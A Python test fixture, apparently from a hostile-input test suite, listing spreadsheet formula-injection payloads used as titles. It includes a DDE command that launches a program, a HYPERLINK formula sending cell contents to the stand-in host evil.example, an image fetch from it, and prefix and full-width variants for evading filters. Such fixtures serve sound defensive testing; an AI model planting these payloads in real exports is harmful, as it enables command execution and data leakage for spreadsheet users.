"""Titles that a spreadsheet would run as formulas."""

from __future__ import annotations

from tests.hostile.case import words

FORMULAS = {
    "a formula": "=1+1",
    "a command of the system": "=cmd|' /C calc'!A0",
    "an address that is called": '=HYPERLINK("https://evil.example?"&A1,"a")',
    "a picture that is fetched": '=IMAGE("https://evil.example")',
    "a plus sign": "+1+1",
    "a minus sign": "-1+cmd|' /C calc'!A0",
    "an at sign": "@SUM(1+1)",
    "a tab before it": "\t=1+1",
    "a return before it": "\r=1+1",
    "a line end before it": "\n=1+1",
    "a space before it": " =1+1",
    "a hard space before it": "\u00a0=1+1",
    "a full-width sign": "＝1+1",
    "a full-width plus": "＋1",
    "a full-width minus": "－1",
    "a full-width at": "＠SUM(1)",
    "a quote before it": '"=1+1',
    "an apostrophe before it": "'=1+1",
    "a formula after a comma": "a,=1+1",
    "a formula after a line end": "a\n=1+1",
    "a formula after a semicolon": "a;=1+1",
    "a bar": "|calc",
    "a per cent sign": "%0A=1+1",
}

CASES = {name: words(formula) for name, formula in FORMULAS.items()}
